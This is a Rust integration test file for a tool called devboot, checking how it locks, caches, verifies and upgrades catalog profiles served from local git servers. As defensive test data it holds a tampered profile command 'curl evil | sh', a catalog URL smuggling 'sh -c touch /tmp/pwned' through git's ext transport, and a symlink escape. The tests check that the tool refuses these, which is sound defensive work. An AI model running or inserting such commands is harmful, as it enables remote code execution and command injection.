//! Published catalogs against real parts: a bare git repository with tags served on 127.0.0.1
//! by `git daemon` and by git's smart-HTTP backend (`git http-backend` behind a small CGI
//! server, with HTTP basic auth for the private case, reached through a git credential helper
//! in the developer's own `.gitconfig`). No Docker engine: `devboot config` and
//! `devboot profile …` resolve the stack without one.

use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::{TestProject, free_port, require_tool, run};

/// Runs git in `dir` with a fixed identity, asserting success; returns stdout.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=Platform", "-c", "user.email=p@example.com"])
        .args([
            "-c",
            "init.defaultBranch=main",
            "-c",
            "commit.gpgsign=false",
            "-c",
            "tag.gpgsign=false",
        ])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// The platform team's catalog: a work repository and the bare one it publishes to.
struct Catalog {
    work: PathBuf,
    /// The directory served; holds `catalog.git`.
    served: PathBuf,
    _dir: tempfile::TempDir,
}

pub(crate) fn profile(version: &str, image: &str) -> String {
    format!(
        "schema = 1\ndescription = \"acme rails {version}\"\nextends = \"./base.toml\"\n\
         capabilities = [\"setup-commands\"]\n\n\
         [app]\nservice = \"web\"\nsetup = [\"bin/setup {version}\"]\n\n\
         [services.web]\nimage = \"{image}\"\ncommand = \"sleep infinity\"\n\n\
         [services.web.environment]\nSECRET_KEY_BASE = \"secret-of-{version}\"\n"
    )
}

impl Catalog {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let work = dir.path().join("work");
        let served = dir.path().join("served");
        std::fs::create_dir_all(work.join("profiles")).unwrap();
        std::fs::create_dir_all(&served).unwrap();
        git(&work, &["init", "-q"]);
        std::fs::write(
            work.join("profiles/base.toml"),
            "schema = 1\n[services.db]\nimage = \"postgres:16\"\n",
        )
        .unwrap();
        let catalog = Self {
            work,
            served,
            _dir: dir,
        };
        catalog.release("1.0.0", "ruby:3.1");
        catalog.release("2.0.0", "ruby:3.2");
        git(
            &catalog.served,
            &["clone", "-q", "--bare", "../work", "catalog.git"],
        );
        catalog
    }

    /// Commits the rails profile at `version` and tags it `v<version>`.
    fn release(&self, version: &str, image: &str) {
        std::fs::write(
            self.work.join("profiles/rails.toml"),
            profile(version, image),
        )
        .unwrap();
        git(&self.work, &["add", "-A"]);
        git(&self.work, &["commit", "-q", "-m", version]);
        git(&self.work, &["tag", "-f", &format!("v{version}")]);
    }

    /// Pushes every tag to the served repository (forcing moved ones).
    fn publish(&self) {
        git(
            &self.work,
            &["push", "-q", "--force", "--tags", "../served/catalog.git"],
        );
    }
}

/// A server process stopped on drop.
pub(crate) struct Server(pub(crate) Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

pub(crate) fn wait_for(port: u16, server: &mut Child) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(server.try_wait().unwrap().is_none(), "the server exited");
        assert!(Instant::now() < deadline, "nothing listens on {port}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn git_daemon(served: &Path) -> (Server, u16) {
    let port = free_port();
    // `git daemon` would run `git-daemon` as its child, which outlives a kill of `git` (and
    // keeps whatever the test's process had open): start the daemon itself.
    let exec_path = Command::new("git").arg("--exec-path").output().unwrap();
    let exec_path = String::from_utf8(exec_path.stdout).unwrap();
    let mut child = Command::new(Path::new(exec_path.trim()).join("git-daemon"))
        .arg("--reuseaddr")
        .arg("--export-all")
        .arg("--listen=127.0.0.1")
        .arg(format!("--port={port}"))
        .arg(format!("--base-path={}", served.display()))
        .arg(served)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(port, &mut child);
    (Server(child), port)
}

/// `git http-backend` behind a CGI-running HTTP server; `basic` ("user:password") requires
/// that HTTP basic auth.
const SMART_HTTP: &str = r#"
import base64, http.server, os, subprocess, sys
root, port, basic = sys.argv[1], int(sys.argv[2]), sys.argv[3]
class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass
    def do_GET(self):
        self.cgi()
    def do_POST(self):
        self.cgi()
    def cgi(self):
        if basic and self.headers.get("Authorization") != "Basic " + base64.b64encode(basic.encode()).decode():
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="catalog"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        path, _, query = self.path.partition("?")
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length)
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": root, "GIT_HTTP_EXPORT_ALL": "1",
               "PATH_INFO": path, "QUERY_STRING": query, "REQUEST_METHOD": self.command,
               "CONTENT_TYPE": self.headers.get("Content-Type", ""), "CONTENT_LENGTH": str(length),
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
               "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""), "REMOTE_USER": "devboot"}
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
        head, _, rest = out.partition(b"\r\n\r\n")
        status, headers = 200, []
        for line in head.decode().split("\r\n"):
            key, _, value = line.partition(":")
            if key.lower() == "status":
                status = int(value.split()[0])
            elif key:
                headers.append((key, value.strip()))
        self.send_response(status)
        for key, value in headers:
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)
http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
"#;

fn smart_http(served: &Path, basic: &str) -> (Server, u16) {
    let port = free_port();
    let mut child = Command::new("python3")
        .args(["-c", SMART_HTTP])
        .arg(served)
        .arg(port.to_string())
        .arg(basic)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(port, &mut child);
    (Server(child), port)
}

fn project_extending(url: &str, version: &str) -> TestProject {
    let project = TestProject::empty();
    project.write(
        "devboot.toml",
        &format!("extends = \"acme:rails@{version}\"\n\n[catalogs]\nacme = \"{url}\"\n"),
    );
    project
}

/// `devboot config` (resolves the stack, needs no engine) with another HOME.
fn config_as(project: &TestProject, home: &Path) -> crate::common::Output {
    run(project.devboot().env("HOME", home).arg("config"))
}

#[test]
fn a_locked_catalog_profile_is_used_exactly_offline_and_upgraded_only_by_a_reviewed_update() {
    if !require_tool("git") {
        return;
    }
    let catalog = Catalog::new();
    let (daemon, port) = git_daemon(&catalog.served);
    let project = project_extending(&format!("git://127.0.0.1:{port}/catalog.git"), "^2");

    // First use: fetched, the newest release `^2` accepts is locked, and devboot says so.
    let started = Instant::now();
    let first = run(project.devboot().arg("config"));
    let cold = started.elapsed();
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert!(
        first.stderr.contains("locked acme:rails v2.0.0"),
        "{}",
        first.stderr
    );
    assert!(
        first.stdout.contains("ruby:3.2") && first.stdout.contains("postgres:16"),
        "{}",
        first.stdout
    );
    let lock = project.read("devboot.lock");
    let commit_2_0 = git(&catalog.work, &["rev-parse", "v2.0.0"]);
    assert!(
        lock.contains(&commit_2_0) && lock.contains("profiles/base.toml"),
        "{lock}"
    );
    eprintln!("cold fetch and resolution: {cold:?}");

    // The team publishes 2.1.0 and moves the v2.0.0 tag; the catalog server goes away.
    catalog.release("2.1.0", "ruby:3.3");
    git(&catalog.work, &["tag", "-f", "v2.0.0", "HEAD"]);
    catalog.publish();
    drop(daemon);

    // Offline, from the cache: exactly the locked content, the lock untouched.
    let started = Instant::now();
    let offline = run(project.devboot().arg("config"));
    let warm = started.elapsed();
    assert_eq!(offline.code, 0, "{}", offline.stderr);
    assert!(offline.stdout.contains("ruby:3.2"), "{}", offline.stdout);
    assert!(!offline.stderr.contains("locked"), "{}", offline.stderr);
    assert_eq!(project.read("devboot.lock"), lock);
    eprintln!("warm resolution: {warm:?}");

    // A new hire (empty cache) while the tag has moved upstream: the lock wins.
    let (_daemon, port2) = git_daemon(&catalog.served);
    let toml = project
        .read("devboot.toml")
        .replace(&port.to_string(), &port2.to_string());
    project.write("devboot.toml", &toml);
    let lock = lock.replace(&port.to_string(), &port2.to_string());
    project.write("devboot.lock", &lock);
    let new_hire = project.dir.path().join("new-hire");
    std::fs::create_dir_all(&new_hire).unwrap();
    let hire = config_as(&project, &new_hire);
    assert_eq!(hire.code, 0, "{}", hire.stderr);
    assert!(hire.stdout.contains("ruby:3.2"), "{}", hire.stdout);
    assert_eq!(project.read("devboot.lock"), lock);

    // `outdated` lists the newer release.
    let json = run(project.devboot().args(["profile", "outdated", "--json"]));
    assert_eq!(json.code, 0, "{}", json.stderr);
    let rows: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(rows[0]["locked"], "v2.0.0", "{rows}");
    assert_eq!(rows[0]["wanted"], "v2.1.0", "{rows}");
    let outdated = run(project.devboot().args(["profile", "outdated"]));
    assert_eq!(outdated.code, 0, "{}", outdated.stderr);
    let row = outdated
        .stdout
        .lines()
        .find(|l| l.starts_with("acme:rails"))
        .unwrap_or_default();
    assert_eq!(
        row.split_whitespace().collect::<Vec<_>>(),
        ["acme:rails", "^2", "v2.0.0", "v2.1.0", "v2.1.0"],
        "{}",
        outdated.stdout
    );

    // The reviewed upgrade: the diff of the resolved stack, secrets never shown.
    let dry = run(project
        .devboot()
        .args(["profile", "update", "rails", "--dry-run"]));
    assert_eq!(dry.code, 0, "{}", dry.stderr);
    for expected in [
        "acme:rails v2.0.0",
        "→ v2.1.0",
        "services.web.image: \"ruby:3.2\" → \"ruby:3.3\"",
        "~ services.web.environment.SECRET_KEY_BASE changed (value redacted)",
        "app.setup: [\"bin/setup 2.0.0\"] → [\"bin/setup 2.1.0\"]",
    ] {
        assert!(
            dry.stdout.contains(expected),
            "{expected} in {}",
            dry.stdout
        );
    }
    assert!(!dry.stdout.contains("secret-of"), "{}", dry.stdout);
    assert_eq!(
        project.read("devboot.lock"),
        lock,
        "a dry run writes nothing"
    );
    let update = run(project.devboot().args(["profile", "update", "rails"]));
    assert_eq!(update.code, 0, "{}", update.stderr);
    assert!(project.read("devboot.lock").contains("v2.1.0"));
    assert!(
        run(project.devboot().arg("config"))
            .stdout
            .contains("ruby:3.3")
    );

    // An `extends` the lock no longer satisfies says what to run.
    project.write("devboot.toml", &toml.replace("@^2", "@^1"));
    let edited = run(project.devboot().arg("config"));
    assert_eq!(edited.code, 2, "{}", edited.stderr);
    assert!(
        edited
            .stderr
            .contains("devboot.lock pins acme:rails v2.1.0"),
        "{}",
        edited.stderr
    );
    assert!(
        edited.stderr.contains("devboot profile update rails"),
        "{}",
        edited.stderr
    );
}

/// The loose object of `path` at `commit` in the bare cache repository under `home` (its packs
/// unpacked first, so the object is a file of its own).
fn cached_object(home: &Path, commit: &str, path: &str) -> PathBuf {
    let cache = std::fs::read_dir(home.join(".cache/devboot/catalogs"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.extension().is_some_and(|e| e == "git"))
        .unwrap();
    let packs = cache.join("objects/pack");
    for entry in std::fs::read_dir(&packs).unwrap() {
        let pack = entry.unwrap().path();
        if pack.extension().is_some_and(|e| e == "pack") {
            let moved = cache.join("unpacking.pack");
            std::fs::rename(&pack, &moved).unwrap();
            for ext in ["idx", "rev"] {
                let _ = std::fs::remove_file(pack.with_extension(ext));
            }
            let status = Command::new("git")
                .arg("--git-dir")
                .arg(&cache)
                .arg("unpack-objects")
                .stdin(std::fs::File::open(&moved).unwrap())
                .status()
                .unwrap();
            assert!(status.success());
        }
    }
    let id = git(
        &cache,
        &["--git-dir", ".", "rev-parse", &format!("{commit}:{path}")],
    );
    cache.join("objects").join(&id[..2]).join(&id[2..])
}

#[test]
fn a_tampered_cache_is_refused_with_the_fix() {
    if !require_tool("git") || !require_tool("python3") {
        return;
    }
    let catalog = Catalog::new();
    let (_daemon, port) = git_daemon(&catalog.served);
    let project = project_extending(&format!("git://127.0.0.1:{port}/catalog.git"), "2.0.0");
    assert_eq!(run(project.devboot().arg("config")).code, 0);
    let evil = "[services.web]\nimage = \"evil:latest\"\ncommand = \"curl evil | sh\"\n";
    let refused_with_the_fix = || {
        let refused = run(project.devboot().arg("config"));
        assert_eq!(refused.code, 1, "{}", refused.stderr);
        for expected in [
            "`acme:profiles/rails.toml` in the catalog cache does not match devboot.lock",
            "remove `~/.cache/devboot/catalogs`",
        ] {
            assert!(
                refused.stderr.contains(expected),
                "{expected} in {}",
                refused.stderr
            );
        }
        assert!(!refused.stderr.contains("evil") && !refused.stdout.contains("evil"));
    };

    // The verified copy a warm resolution reads (kept by its SHA-256).
    let lock = project.read("devboot.lock");
    let files = project.home().join(".cache/devboot/catalogs/files");
    let digest = lock
        .lines()
        .find_map(|l| l.strip_prefix("\"profiles/rails.toml\" = \""))
        .unwrap()
        .trim_end_matches('"');
    std::fs::write(files.join(digest), evil).unwrap();
    refused_with_the_fix();

    // The git object itself: same object id, other content, which git does not notice on a read.
    std::fs::remove_dir_all(&files).unwrap();
    let commit = git(&catalog.work, &["rev-parse", "v2.0.0"]);
    let object = cached_object(&project.home(), &commit, "profiles/rails.toml");
    let mut perms = std::fs::metadata(&object).unwrap().permissions();
    #[expect(
        clippy::permissions_set_readonly_false,
        reason = "the test rewrites a git object"
    )]
    perms.set_readonly(false);
    std::fs::set_permissions(&object, perms).unwrap();
    let status = Command::new("python3")
        .args(["-c", "import sys, zlib; d = sys.argv[2].encode(); open(sys.argv[1], 'wb').write(zlib.compress(b'blob %d\\0' % len(d) + d))"])
        .arg(&object)
        .arg(evil)
        .status()
        .unwrap();
    assert!(status.success());
    refused_with_the_fix();

    // The fix the message gives: without the cache, the locked commit is fetched again.
    std::fs::remove_dir_all(project.home().join(".cache/devboot/catalogs")).unwrap();
    let again = run(project.devboot().arg("config"));
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(again.stdout.contains("ruby:3.2"));
    assert_eq!(project.read("devboot.lock"), lock);
}

#[test]
fn a_private_catalog_over_smart_http_uses_the_developers_credential_helper() {
    if !require_tool("git") || !require_tool("python3") {
        return;
    }
    let catalog = Catalog::new();
    let (_server, port) = smart_http(&catalog.served, "platform:s3cret-token");
    let project = project_extending(&format!("git+http://127.0.0.1:{port}/catalog.git"), "^2");

    // Without credentials: refused by the server, no prompt, the fix named.
    let denied = run(project.devboot().arg("config"));
    assert_eq!(denied.code, 1, "{}", denied.stderr);
    assert!(
        denied.stderr.contains("credential helper"),
        "{}",
        denied.stderr
    );
    assert!(!project.root().join("devboot.lock").exists());

    // The developer's own git setup: a credential helper in ~/.gitconfig.
    std::fs::write(
        project.home().join(".gitconfig"),
        "[credential]\n\thelper = \"!f() { test \\\"$1\\\" = get && printf 'username=platform\\\\npassword=s3cret-token\\\\n'; }; f\"\n",
    )
    .unwrap();
    let fetched = run(project.devboot().arg("config"));
    assert_eq!(fetched.code, 0, "{}", fetched.stderr);
    assert!(fetched.stdout.contains("ruby:3.2"), "{}", fetched.stdout);
    assert!(
        !fetched.stderr.contains("s3cret-token"),
        "{}",
        fetched.stderr
    );
    let lock = project.read("devboot.lock");
    assert!(
        lock.contains("v2.0.0") && !lock.contains("s3cret"),
        "{lock}"
    );
}

#[test]
fn a_directory_catalog_is_locked_by_its_file_hashes() {
    let project = TestProject::empty();
    project.write("platform/profiles/rails.toml", &profile("1", "ruby:3.2"));
    project.write(
        "platform/profiles/base.toml",
        "schema = 1\n[services.db]\nimage = \"postgres:16\"\n",
    );
    project.write(
        "devboot.toml",
        "extends = \"team:rails\"\n[catalogs]\nteam = \"dir:platform\"\n",
    );
    let first = run(project.devboot().arg("config"));
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert!(project.read("devboot.lock").contains("profiles/base.toml"));

    project.write(
        "platform/profiles/base.toml",
        "schema = 1\n[services.db]\nimage = \"postgres:17\"\n",
    );
    let changed = run(project.devboot().arg("config"));
    assert_eq!(changed.code, 1, "{}", changed.stderr);
    assert!(
        changed
            .stderr
            .contains("`team:profiles/base.toml` changed since devboot.lock was written"),
        "{}",
        changed.stderr
    );
    // The review compares with the files as locked (kept in the cache by their hashes).
    let update = run(project.devboot().args(["profile", "update"]));
    assert_eq!(update.code, 0, "{}", update.stderr);
    for expected in [
        "team:rails: its files changed",
        "services.db.image: \"postgres:16\" → \"postgres:17\"",
    ] {
        assert!(
            update.stdout.contains(expected),
            "{expected} in {}",
            update.stdout
        );
    }
    assert!(
        !update.stdout.contains("nothing to compare"),
        "{}",
        update.stdout
    );
    assert!(
        run(project.devboot().arg("config"))
            .stdout
            .contains("postgres:17")
    );
}

#[test]
fn hostile_catalog_locations_and_links_are_refused() {
    let project = TestProject::empty();
    project.write(
        "devboot.toml",
        "extends = \"acme:rails@^2\"\n[catalogs]\nacme = \"git+ext::sh -c touch% /tmp/pwned\"\n",
    );
    let out = run(project.devboot().arg("config"));
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("devboot.toml:1:11"), "{}", out.stderr);

    project.write(
        "devboot.toml",
        "extends = \"team:rails\"\n[catalogs]\nteam = \"dir:platform\"\n",
    );
    project.write("secret.toml", "[services.web]\nimage = \"x\"\n");
    std::fs::create_dir_all(project.root().join("platform/profiles")).unwrap();
    std::os::unix::fs::symlink(
        "../../secret.toml",
        project.root().join("platform/profiles/rails.toml"),
    )
    .unwrap();
    let out = run(project.devboot().arg("config"));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(out.stderr.contains("is a link"), "{}", out.stderr);
}

/// `up` on the real engine with the fixture's profile published in a catalog: the locked
/// release runs, and a later release does not reach the stack without `profile update`.
#[test]
fn up_runs_the_locked_catalog_profile_on_the_engine() {
    if !crate::common::require_engine() || !require_tool("git") {
        return;
    }
    let stack = crate::stack::EngineProject::new("catalog", crate::stack::AUTO_PORTS);
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("work");
    std::fs::create_dir_all(work.join("profiles")).unwrap();
    git(&work, &["init", "-q"]);
    let fixture = stack.project.read("devboot.toml");
    let publish = |version: &str| {
        std::fs::write(
            work.join("profiles/rails.toml"),
            format!("{fixture}\n[services.web.environment]\nACME_PROFILE = \"{version}\"\n"),
        )
        .unwrap();
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", version]);
        git(&work, &["tag", &format!("v{version}")]);
    };
    publish("2.0.0");
    stack.project.write(
        "devboot.toml",
        &format!(
            "extends = \"acme:rails@^2\"\n\n[catalogs]\nacme = \"git+file://{}\"\n",
            work.display()
        ),
    );
    let first = stack.up();
    assert!(
        first.stderr.contains("locked acme:rails v2.0.0"),
        "{}",
        first.stderr
    );

    publish("2.1.0");
    stack.up();
    let web = stack
        .container_ids()
        .into_iter()
        .find(|(service, _)| service == "web")
        .map(|(_, id)| id)
        .unwrap();
    let env = crate::stack::docker(&["inspect", "--format", "{{json .Config.Env}}", &web]);
    assert!(env.contains("ACME_PROFILE=2.0.0"), "{env}");
}
